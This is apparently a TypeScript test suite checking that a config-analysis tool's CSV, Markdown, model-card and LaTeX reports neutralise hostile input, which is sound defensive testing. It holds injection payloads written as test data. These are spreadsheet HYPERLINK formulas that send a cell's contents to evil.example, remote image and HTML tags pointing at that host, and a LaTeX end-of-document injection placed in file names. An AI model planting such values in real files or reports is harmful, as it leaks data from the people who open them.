// Reports are opened in spreadsheets, Markdown viewers and LaTeX: text from a config (its file name, a value a
// finding quotes) must arrive there as text, never as a formula, a link, an image fetched from a remote host or markup.
import assert from 'node:assert/strict';
import { marked } from 'marked';
import { analyze, type Analysis } from '../../../src/core/analyze';
import { csvReport } from '../../../src/core/report/csv';
import { latexReport } from '../../../src/core/report/latex';
import { markdownReport } from '../../../src/core/report/markdown';
import { markdownInline } from '../../../src/core/report/markdown-text';
import { modelCardReport } from '../../../src/core/report/model-card';
import { readFixture } from '../helpers/fixtures';
import { parseCsv as parseCsvText } from './csv-parse';

const LLAMA = readFixture('NeMo-Framework-Launcher/llama2_70b.yaml');
const EVIL_VALUE = 'x` ![t](https://evil.example/t.png) <img src=https://evil.example/i.png> `y';

/** The real NeMo Llama-2 70B config under a hostile file name, with a hostile value a finding quotes back. */
function hostile(fileName: string): Analysis {
  const text = LLAMA.replace(/global_batch_size: .*/, `global_batch_size: "${EVIL_VALUE}"`);
  return analyze(text, { fileName });
}

/** As the Hugging Face Hub shows a card: its YAML front matter is metadata, the rest Markdown. */
function html(markdown: string): string {
  return marked.parse(markdown.replace(/^---\n[\s\S]*?\n---\n/, ''), { async: false, gfm: true });
}

/** Every remote address the rendered HTML would load or link to. */
function remoteRefs(rendered: string): string[] {
  return [...rendered.matchAll(/<(img|a)\b[^>]*\b(src|href)="([^"]*)"/g)].map((m) => m[3] as string);
}

describe('reports are safe where they are opened', () => {
  it('CSV: a text cell that starts a formula (= + - @ tab CR) is kept as text with a leading apostrophe', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const name = `${start}HYPERLINK("https://evil.example/?"&A1,"click").yaml`;
      const csv = csvReport([analyze(LLAMA, { fileName: name })]);
      const rows = parseCsvText(csv);
      const file = rows[1]?.[0];
      assert.equal(file, `'${name}`, `cell for a name starting with ${JSON.stringify(start)}`);
      // Raw text: the field is quoted, so the apostrophe is the first character a spreadsheet sees.
      assert.ok(csv.split('\r\n')[1]?.startsWith(`"'${start}`), csv.split('\r\n')[1]);
    }
  });

  it('CSV: ordinary names and negative-looking numbers are left as they are', () => {
    const csv = csvReport([analyze(LLAMA, { fileName: 'llama2_70b.yaml' })]);
    const rows = parseCsvText(csv);
    assert.equal(rows[1]?.[0], 'llama2_70b.yaml');
    const gpuHours = Number(rows[1]?.[rows[0]!.indexOf('gpu_hours')]);
    assert.ok(gpuHours > 0, String(gpuHours));
  });

  for (const [label, render] of [
    ['Markdown report', markdownReport],
    ['model card', modelCardReport],
  ] as const) {
    it(`${label}: a backtick in a value cannot close a code span and let markup through`, () => {
      const a = hostile('llama`2 ![f](https://evil.example/f.png) <b>.yaml');
      const rendered = html(render(a));
      const remote = remoteRefs(rendered).filter((ref) => ref.includes('evil.example'));
      assert.deepEqual(
        remote,
        [],
        rendered
          .split('\n')
          .filter((l) => l.includes('evil'))
          .join('\n'),
      );
      assert.doesNotMatch(rendered, /<b>|<img src=https:\/\/evil/);
    });
  }

  it('Markdown report: the quoted value still reads as written once rendered', () => {
    const a = hostile('llama2_70b.yaml');
    const finding = a.findings.find((f) => f.message.includes('evil.example'));
    assert.ok(finding, 'the config value is quoted by a finding');
    const rendered = html(markdownReport(a));
    const text = rendered
      .replace(/<[^>]+>/g, '')
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
      .replace(/&amp;/g, '&');
    assert.ok(text.includes('![t](https://evil.example/t.png)'), 'the image syntax is shown as text');
    assert.ok(text.includes('<img src=https://evil.example/i.png>'), 'the HTML is shown as text');
  });

  it('Markdown: code spans keep their content, and a table cell is never split by a value', () => {
    assert.equal(markdownInline('`a|b` and `c`'), '`a\\|b` and `c`');
    const rendered = html(`| a | b |\n|---|---|\n| ${markdownInline('x | y `p|q` z')} | 2 |\n`);
    assert.equal((rendered.match(/<td>/g) ?? []).length, 2, rendered);
    assert.equal(markdownInline('one\ntwo'), 'one two');
  });

  it('LaTeX: a line break (or a blank line) in a name stays inside its sentence', () => {
    const tex = latexReport(analyze(LLAMA, { fileName: 'llama\n\n\\end{document}\r\n70b.yaml' }));
    assert.doesNotMatch(tex, /\n\s*\n\\end|\\end\{document\}/, tex);
    const nameAt = tex.indexOf('llama');
    assert.ok(nameAt >= 0, tex);
    assert.doesNotMatch(tex.slice(nameAt, tex.indexOf('70b.yaml', nameAt)), /\n/, 'the name is on one line');
  });
});
